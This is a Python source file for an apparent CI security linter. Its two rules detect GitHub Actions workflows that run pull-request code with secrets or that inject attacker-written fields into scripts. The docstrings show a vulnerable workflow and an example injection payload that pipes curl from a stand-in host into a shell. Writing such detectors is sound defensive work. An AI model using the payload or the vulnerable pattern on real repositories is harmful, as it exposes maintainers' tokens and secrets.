"""What people without any rights can make a workflow do."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from hardenctl.formats.workflow import Step, Workflow, expressions
from hardenctl.formats.yaml import Scalar
from hardenctl.model.finding import Hit, Severity, advice
from hardenctl.rules.declare import rule

# What a stranger writes, or names as he likes. https://docs.github.com/en/actions/concepts/security/script-injections
_WRITTEN = re.compile(
    r"github\.head_ref\b"
    r"|github\.event\.(?:issue|discussion|pull_request)\.(?:title|body)\b"
    r"|github\.event\.(?:comment|review|review_comment)\.body\b"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))\b"
    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email)))\b"
    r"|github\.event\.(?:head_commit|commits(?:\[\d+\]|\.\*))\.(?:message|author\.(?:name|email))\b"
    r"|github\.event\.pages(?:\[\d+\]|\.\*)\.page_name\b"
)
_ANSWERS = re.compile(r"\b(?:contains|startsWith|endsWith|hashFiles)\s*\([^()]*(?:\([^()]*\)[^()]*)*\)", re.IGNORECASE)
_COMPARED = re.compile(r"[=!]=")
# The head of a pull request: what its author wrote, down to the build scripts.
_HEAD = re.compile(
    r"github\.event\.pull_request\.(?:head\.(?:sha|ref)|merge_commit_sha)|github\.head_ref"
    r"|refs/pull/|github\.event\.(?:issue|pull_request)\.number"
    r"|github\.event\.workflow_run\.(?:head_sha|head_branch|head_commit\.id)"
)
_PULLED = re.compile(r"\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull/|\bgit\s+checkout\b[^\n]*\bFETCH_HEAD\b")
# The pull request is from the repository itself.
_OWN = re.compile(
    r"head\.repo\.full_name\s*==\s*(?:github\.repository|github\.event\.(?:pull_request\.base\.)?repo\w*\.full_name)"
    r"|!\s*github\.event\.pull_request\.head\.repo\.fork|head\.repo\.fork\s*==\s*false"
    r"|workflow_run\.head_repository\.full_name\s*==\s*github\.repository"
    r"|workflow_run\.event\s*==\s*'(?:push|schedule|workflow_dispatch|release)'"
)
# Somebody with rights has a look first: by a label, an approval, or a comment of his own.
_ASKED = re.compile(
    r"environment|\.labels?\b|label\.name|author_association|github\.(?:actor|triggering_actor)\s*==|sender\.login\s*=="
    r"|permission|review\.state|(?:user|sender)\.type|user\.login\s*=="
)
_RUNS_ITSELF = ("actions/", "github/codeql-action/")  # actions that run nothing of what was checked out


@rule("ci-untrusted-checkout", on=Workflow, severity=Severity.HIGH)
def untrusted_checkout(workflow: Workflow) -> Iterator[Hit]:
    """A stranger's code runs with the repository's rights and secrets.

    ## Why is this bad?
    `pull_request_target`, `workflow_run` and `issue_comment` run with a token that can write and with all secrets. What
    is checked out of a pull request then is its author's: a changed `setup.py`, `conftest.py` or `package.json` is
    enough to take them.

    Nothing is said where only pull requests of the repository itself get so far, or where nothing is run afterwards.
    Low where somebody with rights has to set a label or to approve.

    ## Example
    ```yaml title=".github/workflows/test.yml"
    on: pull_request_target
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
            with:
              ref: ${{ github.event.pull_request.head.sha }}
          - run: pip install . && pytest
    ```

    ## Use instead
    Test pull requests on `pull_request`, which has neither secrets nor rights.

    ```yaml title=".github/workflows/test.yml"
    on: pull_request
    jobs:
      test:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - run: pip install . && pytest
    ```

    ## References
    - https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/
    - https://docs.github.com/en/actions/reference/security/secure-use
    """
    if not workflow.privileged:
        return
    for job in workflow.jobs:
        for number, step in enumerate(job.steps):
            place = _taken(step)
            conditions = f"{job.condition} {step.condition}"
            if place is None or _OWN.search(conditions) or not _is_run(job.steps[number + 1 :], step):
                continue
            low = Severity.LOW if _ASKED.search(conditions) else None
            trigger = min(workflow.privileged)
            message = f"job {job.name} runs a pull request's code on {trigger}, with the repository's secrets"
            fix = advice("test it on `pull_request`, and keep what needs secrets away from its code")
            yield Hit(place.span, message, identity=job.name, severity=low, fix=fix)
            break


def _taken(step: Step) -> Scalar | None:
    """What says that a step gets a pull request's code; None where it does not."""
    if step.action == "actions/checkout":
        found = [each for name in ("ref", "repository") if (each := step.given(name))]
        return next((each for each in found if _HEAD.search(each.text) or "head.repo." in each.text), None)
    script = step.script
    return script if script is not None and step.uses is None and _PULLED.search(script.text) else None


def _is_run(later: Sequence[Step], step: Step) -> bool:
    """Whether something is run of what a step has got: by a script, or by an action that is not GitHub's own."""
    if step.uses is None:
        return True  # the script itself goes on
    return any(each.script is not None or (each.uses and not each.action.startswith(_RUNS_ITSELF)) for each in later)


@rule("ci-script-injection", on=Workflow, severity=Severity.HIGH)
def script_injection(workflow: Workflow) -> Iterator[Hit]:
    """What a stranger writes becomes part of a script.

    ## Why is this bad?
    An expression is put into the script before the shell reads it. An issue whose title is
    `"; curl evil.example | sh #`, or a branch of such a name, runs as a command, with the job's token and secrets.

    Low where only people who may push can start the workflow, or where it runs a pull request's code anyway, without
    secrets (`pull_request`).

    ## Example
    ```yaml title=".github/workflows/greet.yml"
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for ${{ github.event.issue.title }}"
    ```

    ## Use instead
    Hand it over as a variable, which the shell does not read as code.

    ```yaml title=".github/workflows/greet.yml"
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "Thanks for $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## References
    - https://docs.github.com/en/actions/concepts/security/script-injections
    """
    said: set[str] = set()
    low = Severity.LOW if workflow.triggers and not workflow.privileged else None
    for step in workflow.steps:
        script = step.script
        if script is None:
            continue
        what = "the script" if step.uses is None else "the program"
        for start, end, written in _injected(script):
            if written not in said and not (written.endswith("head_branch") and workflow.has_fixed_branches):
                said.add(written)
                span, message = script.strand.span(start, end), f"{written} becomes part of {what}"
                fix = advice("set it as a variable under `env`, and use the variable")
                yield Hit(span, message, identity=written, severity=low, fix=fix)


def _injected(script: Scalar) -> Iterator[tuple[int, int, str]]:
    """The expressions of a script whose result a stranger has written: start, end and what."""
    for start, end, text in expressions(script):
        rest = _ANSWERS.sub("", text)
        if not _COMPARED.search(rest) and (found := _WRITTEN.search(rest)):
            yield start, end, found[0]
